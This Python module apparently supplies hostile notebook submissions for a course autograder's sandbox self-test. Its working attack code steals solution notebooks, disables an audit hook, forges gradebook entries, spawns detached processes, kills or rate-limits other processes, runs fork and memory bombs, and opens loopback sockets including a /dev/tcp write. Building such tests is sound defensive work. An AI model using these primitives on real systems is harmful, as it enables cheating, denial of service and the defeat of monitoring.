"""Hostile submissions for the grader's self-test: each one really attempts what it names.

An attack is an answer cell: module-level code that tries every primitive of its class (below),
then stub task functions that return the stolen solution's answer when the attack managed to
steal one, else ``None``. So an attack that works earns points, and the self-test sees it.

The attacks aim only at the self-test's bait (``/tmp/nncourse-selftest-*/bait``: a fake
gradebook, a "classmate" process, a loopback listener), at the grader (its parent process, when
it can see it) and at the course's solutions (read only): run without the sandbox, they succeed
on those and nothing else. Every process they start carries ``MARKER`` in its command line.
"""

from __future__ import annotations

from collections.abc import Callable

MARKER = "nncourse-attack-marker"

LIB = r'''
import glob, json, os, signal, sys
MARKER = "nncourse-attack-marker"
BAIT = sorted(glob.glob("/tmp/nncourse-selftest-*/bait"))
STOLEN = {}

def _try(fn, *a, **k):
    try:
        return fn(*a, **k)
    except BaseException:
        return None

def _bait_value(name):
    for d in BAIT:
        for reader in READERS:
            v = _try(reader, os.path.join(d, name))
            if v and v.strip().isdigit():
                return int(v)
    return None

def _roots():
    found = []
    starts = [sys.argv[0], os.getcwd(), _try(os.readlink, f"/proc/{os.getppid()}/cwd") or "", *glob.glob("/work/*"), *glob.glob("/home/*/*"), *glob.glob("/root/*")]
    for start in starts:
        d = os.path.abspath(start or "/")
        for _ in range(5):
            if d not in found and _try(os.path.isdir, os.path.join(d, "solutions")):
                found.append(d)
            d = os.path.dirname(d)
    return found

def _read_plain(path):
    with open(path, "rb") as f:
        return f.read()

def _read_os(path):
    fd = os.open(path, os.O_RDONLY)
    return os.read(fd, 1 << 24)

def _read_dirfd(path):
    fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    return os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=fd), 1 << 24)

def _read_fileio(path):
    import _io
    return _io.FileIO(path).read()

def _steal(text):
    nb = json.loads(text)
    ns = dict(globals())
    for cell in nb.get("cells", []):
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else source
        if cell.get("cell_type") == "code" and "def " in source:
            _try(exec, source, ns)
    STOLEN.update({k: v for k, v in ns.items() if callable(v) and k not in globals()})

def steal_solutions(readers):
    for root in _roots():
        for path in _try(glob.glob, os.path.join(root, "solutions", "*.ipynb")) or []:
            for reader in readers:
                data = _try(reader, path)
                if data:
                    _try(_steal, data)
                    break

def _write_plain(path, text):
    with open(path, "a") as f:
        f.write(text)

def _write_os(path, text):
    os.write(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT), text.encode())

def _write_dirfd(path, text):
    fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.write(os.open(path.lstrip("/"), os.O_WRONLY | os.O_APPEND | os.O_CREAT, dir_fd=fd), text.encode())

WRITERS = (_write_plain, _write_os, _write_dirfd)
READERS = (_read_plain, _read_os, _read_dirfd, _read_fileio)

def shell(tag):
    """A command that leaves a mark in the bait and lingers (detached) with MARKER in its command line."""
    return f"for d in /tmp/nncourse-selftest-*/bait; do echo {tag} > $d/pwned-{tag}; done; sleep 600; :"

def spawn_all(tag, argv=None):
    argv = argv or ["/bin/sh", "-c", shell(tag), MARKER]
    import subprocess
    _try(subprocess.Popen, argv, start_new_session=True)
    _try(os.posix_spawn, argv[0], argv, dict(os.environ), setsid=True)
    import _posixsubprocess
    head = [[a.encode() for a in argv], [argv[0].encode()], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, True]
    for tail in ([-1, None, None, None, -1, None], [-1, None, None, None, -1, None, False], [None, None, None, -1, None]):
        if _try(_posixsubprocess.fork_exec, *head, *tail) is not None:  # Python 3.11, 3.12+, 3.10
            break
    command = " ".join("'" + a.replace("'", "") + "'" for a in argv)
    _try(os.system, command + " &")
    import ctypes
    _try(lambda: ctypes.CDLL(None).system((command + " &").encode()))
    def _cffi():
        import cffi
        ffi = cffi.FFI()
        ffi.cdef("int system(const char *);")
        ffi.dlopen(None).system((command + " &").encode())
    _try(_cffi)

def signal_all(pid, signum):
    _try(os.kill, pid, signum)
    _try(lambda: os.killpg(os.getpgid(pid), signum))
    _try(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signum))
'''


def _attack(head: str, body: str = "return None") -> Callable[[list[str]], list[str]]:
    """An attack: ``LIB``, module code ``head``, then one stub per task (the stolen answer if any, else ``body``)."""

    def make(names: list[str]) -> list[str]:
        stubs = "\n".join(
            f"def {n}(*args, **kwargs):\n    if {n!r} in STOLEN:\n        return STOLEN[{n!r}](*args, **kwargs)\n"
            + "\n".join("    " + line for line in body.splitlines())
            for n in names
        )
        return [LIB + "\n" + head + "\n" + stubs]

    return make


LIAR = """
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array_ufunc__(self, *a, **k): return True
    @classmethod
    def __torch_function__(cls, *a, **k): return True
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __len__(self): return 0
"""

DISABLE_HOOK = """
main = sys.modules.get("__main__")
_try(setattr, main, "_DENIED_EVENTS", ())
import gc
def _harmless():
    inside = protected = scratch = None
    def guard(event, args):
        return (inside, protected, scratch) and None
    return guard
for obj in gc.get_objects():
    if getattr(obj, "__name__", "") == "guard" and callable(obj) and hasattr(obj, "__code__"):
        _try(setattr, obj, "__code__", _harmless().__code__)
"""

HOG = "import time; b = bytearray(300 << 20); b[::4096] = b'x' * len(b[::4096]); time.sleep(600)  # " + MARKER

ATTACKS: dict[str, Callable[[list[str]], list[str]]] = {
    "infinite loop ignoring SIGINT": _attack("signal.signal(signal.SIGINT, signal.SIG_IGN)", "while True:\n    pass"),
    "sys.exit in a task": _attack("", "sys.exit(0)"),
    "os._exit at cell level": lambda names: ["import os\nos._exit(1)"],
    "raise SystemExit / KeyboardInterrupt / BaseException": _attack("", "raise BaseException('stop')"),
    "memory bomb": _attack("", "hog = [bytearray(10**8) for _ in range(10**4)]\nreturn hog"),
    "fork bomb": _attack("", "while True:\n    _try(os.fork)"),
    "output flood": _attack("", "while True:\n    sys.stdout.write('x' * 100000)\n    sys.stderr.write('y' * 100000)"),
    "monkeypatch numpy and builtins": _attack(
        "import numpy as np, builtins, math\nnp.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
        "builtins.isinstance = lambda *a: True\nmath.isclose = lambda *a, **k: True",
    ),
    "object lying about equality": _attack(LIAR, "return Liar()"),
    "NaN and infinity": _attack("", "return float('nan')"),
    "import the reference implementation": _attack(
        "for m in ('nncourse', 'nncourse.chapters.ch01_perceptron', 'nncourse.exercises'):\n    _try(__import__, m)\n"
        "import importlib.util\nfor root in _roots():\n    spec = _try(importlib.util.spec_from_file_location, 'ref', os.path.join(root, 'nncourse', 'checks.py'))\n"
        "    _try(lambda: spec.loader.exec_module(importlib.util.module_from_spec(spec)))"
    ),
    "read the solutions (open, os.open, dir fd, FileIO) and run them": _attack("steal_solutions(READERS)"),
    "disable the audit hook, then read the solutions and start a process": _attack(
        DISABLE_HOOK + "steal_solutions(READERS)\nspawn_all('nohook')"
    ),
    "write and append to the gradebook": _attack(
        "forged = json.dumps({'file': 'victim.ipynb', 'student': 'victim', 'sha256': 'x', 'tasks': [], 'score': 0}) + '\\n'\n"
        "targets = [os.path.join(d, n) for d in BAIT for n in ('results.jsonl', 'grades.csv')]\n"
        "for fd in _try(os.listdir, f'/proc/{os.getppid()}/fd') or []:\n"
        "    targets.append(_try(os.readlink, f'/proc/{os.getppid()}/fd/{fd}') or '/nonexistent')\n"
        "for path in targets:\n    if path.endswith(('results.jsonl', 'grades.csv')):\n        for writer in WRITERS:\n            _try(writer, path, forged)"
    ),
    "start processes (subprocess, posix_spawn, _posixsubprocess, os.system, ctypes, cffi)": _attack(
        "spawn_all('spawn')"
    ),
    "kill and stop a classmate (kill, killpg, pidfd_send_signal)": _attack(
        "pid = _bait_value('classmate.pid')\nif pid:\n    signal_all(pid, signal.SIGSTOP)\n    signal_all(pid, signal.SIGKILL)"
    ),
    "prlimit the grader and a classmate": _attack(
        "import resource\nfor pid in (os.getppid(), _bait_value('classmate.pid') or 0, _bait_value('grader.pid') or 0):\n"
        "    if pid > 1:\n        _try(resource.prlimit, pid, resource.RLIMIT_NOFILE, (8, 8))\n        _try(resource.prlimit, pid, resource.RLIMIT_AS, (1 << 20, 1 << 20))"
    ),
    "network to loopback (socket, _socket, ctypes)": _attack(
        "port = _bait_value('port') or 22\nimport socket, _socket\n_try(socket.create_connection, ('127.0.0.1', port), 1)\n"
        "def _raw():\n    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\n    s.settimeout(1)\n    s.connect(('127.0.0.1', port))\n_try(_raw)\n"
        "spawn_all('net', ['/bin/bash', '-c', f'echo x > /dev/tcp/127.0.0.1/{port}', MARKER])"
    ),
    "memory through children": _attack(f"for _ in range(4):\n    spawn_all('hog', [sys.executable, '-c', {HOG!r}])"),
    "disk outside scratch": _attack(
        "chunk = 'x' * (1 << 20)\nfor path in [os.path.join(d, 'fill') for d in BAIT] + ['/tmp/nncourse-attack-fill']:\n"
        "    for writer in WRITERS:\n        for _ in range(32):\n            _try(writer, path, chunk)"
    ),
    "hang while messaging the grader": _attack(
        "out = getattr(sys.modules.get('__main__'), '_FD_OUT', 4)\nimport time\nend = time.time() + 600\n"
        'while time.time() < end:\n    _try(os.write, out, b\'{"cell": 0, "start": true}\\n\')\n    time.sleep(0.01)'
    ),
    "flood the grader with callbacks and a huge reply": _attack(
        "out = getattr(sys.modules.get('__main__'), '_FD_OUT', 4)",
        'while True:\n    _try(os.write, out, b\'{"callback": "predict", "args": [], "kwargs": {}}\\n\' * 1000 + b\'[\' * 100000)',
    ),
    "kill the grader": _attack(
        "for pid in (os.getppid(), _bait_value('grader.pid') or 0):\n    if pid > 1:\n        signal_all(pid, signal.SIGKILL)"
    ),
}
"""Attack name -> builder of its answer cells. The grader-killing one is last (without the sandbox
it ends the self-test, which then fails)."""
